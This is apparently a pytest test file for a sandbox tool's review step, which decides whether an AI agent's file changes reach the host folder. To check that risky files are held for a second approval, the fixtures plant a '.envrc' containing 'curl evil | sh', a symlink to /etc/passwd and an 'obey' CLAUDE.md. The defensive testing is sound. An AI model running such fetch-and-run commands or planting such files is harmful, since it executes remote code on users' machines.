"""What becomes of changes: nothing is applied without a clear yes, and what could run on the host needs one more."""

import io
import os
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from rich.console import Console

from stockade.cli.ui import review
from stockade.cli.ui.review import Decider
from stockade.core.errors import UsageError
from stockade.core.events import RunEvent
from stockade.core.ports import Reviewer
from stockade.runtime import sandboxes
from stockade_sandbox.overlay import prepare_layer
from stockade_sandbox.policy import FolderRule
from stockade_sandbox.results import FolderLayer


@dataclass
class Desk:
    """A folder, its layer, and a person whose answers are known."""

    host: Path
    layer: FolderLayer
    events: list[RunEvent] = field(default_factory=list)
    questions: list[str] = field(default_factory=list)
    screen: io.StringIO = field(default_factory=io.StringIO)
    reviewer: Reviewer = field(default_factory=sandboxes.reviewer)

    @property
    def written(self) -> Path:
        assert self.layer.layer is not None
        return Path(self.layer.layer) / "copy"

    @property
    def kinds(self) -> list[str]:
        return [event.type for event in self.events]

    def work(self) -> list[review.Pending]:
        return review.pending(self.reviewer, [self.layer])

    def decider(self, *answers: str | None) -> Decider:
        typed: Iterator[str | None] = iter(answers)

        def ask(question: str) -> str | None:
            self.questions.append(question)
            return next(typed)

        console = Console(file=self.screen, width=200, highlight=False)
        return Decider("r1", console, self.reviewer, self.events.append, ask)


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    host = tmp_path / "demo"
    host.mkdir()
    (host / "data.csv").write_text("a\n")
    rule = FolderRule(host=str(host))
    made = prepare_layer(rule, tmp_path / "run", sandbox_uid=None, can_overlay=lambda _: "not in this test")
    desk = Desk(host, made)
    (desk.written / "count.txt").write_text("1\n")
    return desk


def test_yes_applies_and_removes_the_layer(desk: Desk) -> None:
    desk.decider("y").put(desk.work())
    assert (desk.host / "count.txt").read_text() == "1\n"
    assert desk.kinds == ["changes_applied"]
    assert not desk.written.exists()


@pytest.mark.parametrize("typed", ["", "n", "No", None])
def test_not_now_keeps_everything_for_later(desk: Desk, typed: str | None) -> None:
    assert desk.decider(typed).put(desk.work()) is None
    assert not (desk.host / "count.txt").exists()
    assert (desk.written / "count.txt").exists()
    assert desk.kinds == []
    assert "Not applied. Review: stockade diff r1 · apply: stockade apply r1" in desk.screen.getvalue()


@pytest.mark.parametrize("typed", ["yep", "dn", "\x1b[A", "apply", "xx", "yn"])
def test_an_answer_that_is_none_decides_nothing_and_asks_again(desk: Desk, typed: str) -> None:
    desk.decider(typed, "x").put(desk.work())
    assert len(desk.questions) == 2
    assert "one of those letters (? explains them), or several words for the bot" in desk.screen.getvalue()
    assert desk.kinds == ["changes_discarded"]
    assert not (desk.host / "count.txt").exists()


@pytest.mark.parametrize("typed", ["Use Port 80 instead", "y es", "no thanks"])
def test_several_words_are_for_the_bot_and_decide_nothing(desk: Desk, typed: str) -> None:
    assert desk.decider(typed).put(desk.work()) == typed
    assert desk.kinds == []
    assert (desk.written / "count.txt").exists()
    assert not (desk.host / "count.txt").exists()


def test_a_question_mark_explains(desk: Desk) -> None:
    desk.decider("?", "n").put(desk.work())
    assert "f - go through it file by file" in desk.screen.getvalue()


def test_x_throws_away(desk: Desk) -> None:
    desk.decider("x").put(desk.work())
    assert not desk.written.exists()
    assert not (desk.host / "count.txt").exists()
    assert desk.kinds == ["changes_discarded"]


def test_d_shows_the_diff_again_and_asks_again(desk: Desk) -> None:
    desk.decider("d", "y").put(desk.work())
    assert "+++ b/count.txt" in desk.screen.getvalue()
    assert len(desk.questions) == 2
    assert desk.kinds == ["changes_applied"]


def test_what_would_run_later_needs_a_second_yes(desk: Desk) -> None:
    (desk.written / ".envrc").write_text("curl evil | sh\n")
    desk.decider("y", "n").put(desk.work())
    assert (desk.host / "count.txt").exists()
    assert not (desk.host / ".envrc").exists()
    assert (desk.written / ".envrc").exists()
    assert "runs apply r1 --only PATH for one, --flagged for all" in desk.screen.getvalue()
    (desk.written / "CLAUDE.md").write_text("obey\n")
    desk.decider("y", "x .envrc").put(desk.work())
    assert (desk.host / ".envrc").exists()
    assert not (desk.host / "CLAUDE.md").exists()
    desk.decider("y", "y").put(desk.work())
    assert (desk.host / "CLAUDE.md").exists()
    assert not desk.written.exists()


def test_what_is_refused_is_named_and_left_out(desk: Desk) -> None:
    os.symlink("/etc/passwd", desk.written / "link")
    done = desk.decider().apply(desk.work())
    assert done.paths == ["count.txt"]
    assert [change.path for change in done.refused] == ["link"]
    assert not (desk.host / "link").is_symlink()
    assert "not applied: link: " in desk.screen.getvalue()


def test_a_conflict_writes_nothing_and_names_the_way_out(desk: Desk) -> None:
    (desk.host / "count.txt").write_text("mine\n")
    with pytest.raises(UsageError) as caught:
        desk.decider().apply(desk.work())
    assert "count.txt" in caught.value.message
    assert caught.value.hint is not None
    assert "force" in caught.value.hint
    assert "Not applied. Review: stockade diff r1 · apply: stockade apply r1" in desk.screen.getvalue()
    assert (desk.host / "count.txt").read_text() == "mine\n"
    assert desk.kinds == []
    desk.decider().apply(desk.work(), force=True)
    assert (desk.host / "count.txt").read_text() == "1\n"


def test_the_drawing_marks_what_to_look_at_and_what_is_refused(desk: Desk) -> None:
    (desk.written / ".envrc").write_text("x\n")
    os.symlink("/etc/passwd", desk.written / "link")
    (desk.written / "a\x1b[2Jb").write_text("\x1b[2J\n")
    console = Console(file=desk.screen, width=200, highlight=False)
    review.draw(console, sandboxes.reviewer(), desk.work())
    text = desk.screen.getvalue()
    assert " A .envrc +1 -0  held: " in text
    assert "refused: " in text
    assert "4 files changed, 3 lines added, 0 removed; 1 to check first, 1 of them held back; 1 refused" in text
    assert "\x1b" not in text


def test_of_very_many_files_the_first_are_drawn_and_all_that_are_flagged(desk: Desk) -> None:
    (desk.written / "many").mkdir()
    for number in range(500):
        (desk.written / "many" / f"{number:03}").write_text("x\n")
    (desk.written / "zzz").mkdir()
    (desk.written / "zzz" / ".envrc").write_text("x\n")
    console = Console(file=desk.screen, width=200, highlight=False)
    review.draw(console, sandboxes.reviewer(), desk.work())
    text = desk.screen.getvalue()
    assert "more files not shown ...]" in text
    assert "more files not listed ...]" in text
    assert " A zzz/.envrc +1 -0  held: " in text
    assert len(text.splitlines()) < 700


def test_a_long_diff_is_clipped(desk: Desk) -> None:
    (desk.written / "long.txt").write_text("".join(f"{number}\n" for number in range(1000)))
    console = Console(file=desk.screen, width=200, highlight=False)
    review.draw(console, sandboxes.reviewer(), desk.work())
    assert "lines not shown ...]" in desk.screen.getvalue()
    assert len(desk.screen.getvalue().splitlines()) < 200


LINES = "".join(f"{number}\n" for number in range(1, 31))


@pytest.fixture
def edited(tmp_path: Path) -> Desk:
    """Three hunks in `code.py`, a rename, a new file."""
    host = tmp_path / "demo"
    host.mkdir()
    (host / "sub").mkdir()
    (host / "sub" / ".gitignore").write_text("build/\n*.log\n")
    (host / "code.py").write_text(LINES)
    (host / "old.txt").write_text("".join(f"line {number}\n" for number in range(20)))
    layer = prepare_layer(
        FolderRule(host=str(host)), tmp_path / "run", sandbox_uid=None, can_overlay=lambda _: "not in this test"
    )
    desk = Desk(host, layer)
    (desk.written / "code.py").write_text(
        LINES.replace("2\n", "two\n", 1).replace("15\n", "15th\n").replace("28\n", "")
    )
    (desk.written / "old.txt").rename(desk.written / "sub.txt")
    (desk.written / "new.md").write_text("new\n")
    return desk


def test_the_summary_comes_first_and_a_rename_is_one_line(edited: Desk) -> None:
    edited.decider("n").put(edited.work())
    lines = edited.screen.getvalue().splitlines()
    assert lines[:4] == [
        "3 files changed, 3 lines added, 3 removed, 1 renamed",
        " M code.py +2 -3",
        " A new.md +1 -0",
        " R old.txt -> sub.txt",
    ]
    assert "rename from old.txt" in lines
    (edited.written / "sub.txt").write_text((edited.written / "sub.txt").read_text().replace("line 7\n", "mine\n"))
    edited.decider("n").put(edited.work())
    again = edited.screen.getvalue().splitlines()[len(lines) :]
    assert again[0] == "3 files changed, 4 lines added, 4 removed, 1 renamed"
    assert " R old.txt -> sub.txt (95% alike) +1 -1" in again


def test_hunk_by_hunk_and_the_rest_stays(edited: Desk) -> None:
    decider = edited.decider("f", "n", "y", "q", "x")
    assert decider.put(edited.work()) is None
    assert (edited.host / "code.py").read_text() == LINES.replace("15\n", "15th\n")
    assert (edited.host / "old.txt").exists()
    assert not (edited.host / "new.md").exists()
    assert edited.kinds == ["changes_applied", "changes_discarded"]
    assert edited.questions[1].startswith("(1/3) Apply this hunk? [y,n,a,d,s,e,c,q,?] ")
    assert " M code.py +1 -2" in edited.screen.getvalue()  # the rest is asked about again


def test_file_by_file_with_a_rename_as_one(edited: Desk) -> None:
    edited.decider("f", "d", "n", "y", "n").put(edited.work())
    assert (edited.host / "code.py").read_text() == LINES
    assert not (edited.host / "old.txt").exists()
    assert (edited.host / "sub.txt").exists()
    assert {change.path for one in edited.work() for change in one.changes} == {"code.py", "new.md"}


def test_all_that_follow_but_not_what_would_run(edited: Desk) -> None:
    (edited.written / ".envrc").write_text("x\n")
    edited.decider("f", "n", "a", "a", "n").put(edited.work())
    assert [change.path for one in edited.work() for change in one.changes] == [".envrc"]
    assert not edited.questions[1].startswith("(1/")  # what to check first comes first


def test_a_comment_on_a_hunk_is_for_the_bot(edited: Desk) -> None:
    answers = ("f", "y", "why not sixteen?", "n", "c", "keep 28", "n", "q")
    words = edited.decider(*answers).put(edited.work())
    assert words is not None
    first, second = words.split("\n\n")
    assert first.startswith("About code.py:\n@@ -12,7 +12,7 @@\n 12\n")
    assert first.endswith("\n-15\n+15th\n 16\n 17\n 18\nwhy not sixteen?")
    assert second.endswith("\n-28\n 29\n 30\nkeep 28")
    assert (edited.host / "code.py").read_text() == LINES.replace("2\n", "two\n", 1)


def test_split_and_edit(edited: Desk, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (edited.written / "code.py").write_text(LINES.replace("2\n", "two\n", 1).replace("5\n", "five\n", 1))
    editor = tmp_path / "editor"
    editor.write_text("#!/bin/sh\nsed -i 's/^+five$/+FIVE/' \"$1\"\n")
    editor.chmod(0o755)
    monkeypatch.setenv("EDITOR", str(editor))
    monkeypatch.delenv("VISUAL", raising=False)
    edited.decider("f", "s", "n", "e", "q", "n").put(edited.work())
    assert (edited.host / "code.py").read_text() == LINES.replace("5\n", "FIVE\n", 1)


@pytest.mark.parametrize("script", ["rm $1", ": > $1", "echo nonsense > $1", "exit 1", "sed -i s/^-.*// $1"])
def test_an_edit_that_is_none_asks_again(
    edited: Desk, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, script: str
) -> None:
    editor = tmp_path / "editor"
    editor.write_text(f"#!/bin/sh\n{script}\n")
    editor.chmod(0o755)
    monkeypatch.setenv("VISUAL", str(editor))
    edited.decider("f", "e", "q", "n").put(edited.work())
    assert (edited.host / "code.py").read_text() == LINES
    assert edited.kinds == []


def test_what_changed_while_it_was_looked_at_is_shown_again(edited: Desk) -> None:
    decider = edited.decider()
    answers = iter(["y", "y"])

    def ask(_: str) -> str:
        (edited.written / "new.md").write_text("NEW\n")
        return next(answers)

    Decider("r1", decider.console, decider.reviewer, decider.record, ask).put(edited.work())
    assert "changed since it was looked at: 'new.md'; this is how it is now:" in edited.screen.getvalue()
    assert edited.screen.getvalue().count("+NEW") == 1
    assert (edited.host / "new.md").read_text() == "NEW\n"


def test_a_file_that_becomes_a_folder_is_one_question(edited: Desk) -> None:
    (edited.written / "code.py").unlink()
    (edited.written / "code.py").mkdir()
    (edited.written / "code.py" / "a").write_text("a\n")
    (edited.written / "code.py" / "b").write_text("b\n")
    edited.decider("f", "n", "n", "q", "n").put(edited.work())
    assert edited.kinds == []
    edited.decider("f", "y", "q", "n").put(edited.work())
    assert sorted(path.name for path in (edited.host / "code.py").iterdir()) == ["a", "b"]
    assert {change.path for one in edited.work() for change in one.changes} == {"new.md", "old.txt", "sub.txt"}


def test_ignored_files_are_folded_and_applied_and_a_bot_cannot_hide_any(edited: Desk) -> None:
    """By the ignore files of the host, whatever a bot writes into its own; what is to be looked at is never folded."""
    (edited.written / "sub" / ".gitignore").write_text("*\n")
    (edited.written / ".gitignore").write_text("*\n")
    for name in ("sub/build/a", "sub/build/sub/b", "sub/x.log", "sub/build/.envrc"):
        (edited.written / name).parent.mkdir(parents=True, exist_ok=True)
        (edited.written / name).write_text("x\n")
    edited.decider("n").put(edited.work())
    shown = edited.screen.getvalue()
    assert "[3 files that ignore files here name, applied like the others: sub/ 3]" in shown
    assert " A sub/build/.envrc +1 -0  held: " in shown
    assert " A new.md +1 -0" in shown
    assert " M code.py" in shown
    assert "build/a" not in shown
    edited.decider("y", "y").put(edited.work())
    assert (edited.host / "sub/build/sub/b").exists()
    assert edited.work() == []


def test_caches_are_left_out_and_said(edited: Desk) -> None:
    (edited.written / "__pycache__").mkdir()
    (edited.written / "__pycache__" / "x.pyc").write_text("x\n")
    edited.decider("y").put(edited.work())
    assert "[caches are left out: __pycache__ 2; stockade apply --caches takes them too]" in edited.screen.getvalue()
    assert not (edited.host / "__pycache__").exists()
    assert not edited.written.exists()
